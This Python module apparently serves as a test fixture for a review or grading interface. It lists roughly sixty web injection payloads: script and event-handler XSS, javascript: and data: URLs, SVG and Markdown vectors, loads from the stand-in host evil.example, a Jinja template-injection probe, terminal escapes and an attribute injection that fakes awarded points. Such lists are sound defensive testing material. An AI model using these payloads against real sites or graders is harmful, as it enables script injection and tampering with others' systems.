"""What a student may write to make a reviewer's browser do something: every one of them would leave the mark
`OWNED`."""

from __future__ import annotations

ACT = "top.OWNED=1;window.OWNED=1;document.title='OWNED';alert(1)"
FAR = "http://evil.example:9/x"

PAYLOADS = (
    # plain HTML and scripts
    f"<script>{ACT}</script>",
    f"<ScRiPt>{ACT}</sCrIpT>",
    f"<script src={FAR}></script>",
    f"<script type=module>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f'<img src=x onerror="{ACT}">',
    f"<img src=x onerror={ACT}>",
    f'"><img src=x onerror="{ACT}">',
    f"'><img src=x onerror='{ACT.replace(chr(39), '`')}'>",
    f'<body onload="{ACT}">',
    f'<details open ontoggle="{ACT}">x</details>',
    f'<input autofocus onfocus="{ACT}">',
    f'<video><source onerror="{ACT}"></video>',
    f'<audio src=x onerror="{ACT}"></audio>',
    f'<marquee onstart="{ACT}">x</marquee>',
    f'<a href="javascript:{ACT}" autofocus>click</a>',
    f'<form action="javascript:{ACT}"><button autofocus>x</button></form>',
    f'<button formaction="javascript:{ACT}">x</button>',
    f'<iframe src="javascript:{ACT}"></iframe>',
    f'<iframe srcdoc="<script>{ACT}</script>"></iframe>',
    f"<iframe src={FAR}></iframe>",
    f'<object data="data:text/html,<script>{ACT}</script>"></object>',
    f'<embed src="data:text/html,<script>{ACT}</script>">',
    f"<link rel=stylesheet href={FAR}>",
    f"<style>@import '{FAR}'; body {{ background: url({FAR}) }}</style>",
    f'<div style="background:url({FAR})" onmouseover="{ACT}">x</div>',
    f'<meta http-equiv=refresh content="0;url={FAR}">',
    f"<base href={FAR}>",
    f"<template><script>{ACT}</script></template>",
    f"<math><mtext><script>{ACT}</script></mtext></math>",
    # out of where they stand
    f"</blockquote></article></main><script>{ACT}</script>",
    f"</title></style></textarea></noscript></template><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f'" autofocus onfocus="{ACT}" x="',
    f"' autofocus onfocus='{ACT.replace(chr(39), '`')}' x='",
    '" data-points="4" class="give',
    # SVG
    f'<svg onload="{ACT}">',
    f"<svg><script>{ACT}</script></svg>",
    f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s></svg>',
    f'<svg><foreignObject><img src=x onerror="{ACT}"></foreignObject></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{ACT.replace(chr(39), '`')}'/>#x\"></svg>",
    f'<svg><a xlink:href="javascript:{ACT}"><text>x</text></a></svg>',
    # Markdown
    f"[click](javascript:{ACT})",
    f"![x]({FAR})",
    f'![x](x"onerror="{ACT})',
    f"<javascript:{ACT}>",
    f"```html\n<script>{ACT}</script>\n```",
    f"$\\href{{javascript:{ACT}}}{{x}}$",
    # templates and JSON
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{ACT}}}",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    "__proto__",
    # terminals, direction, broken text
    f"\x1b]8;;javascript:{ACT}\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x1b]0;OWNED\x07",
    f"\u202e<script>{ACT}</script>\u2066\u200b",
    f"\ud800<script>{ACT}</script>\x00",
    f"＜script＞{ACT}＜/script＞",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
)
EVERYTHING = "\n".join(PAYLOADS)
NAMES = tuple(
    f"{number:02} {payload}"
    for number, payload in enumerate(PAYLOADS)
    if "/" not in payload and len(payload) < 150
)
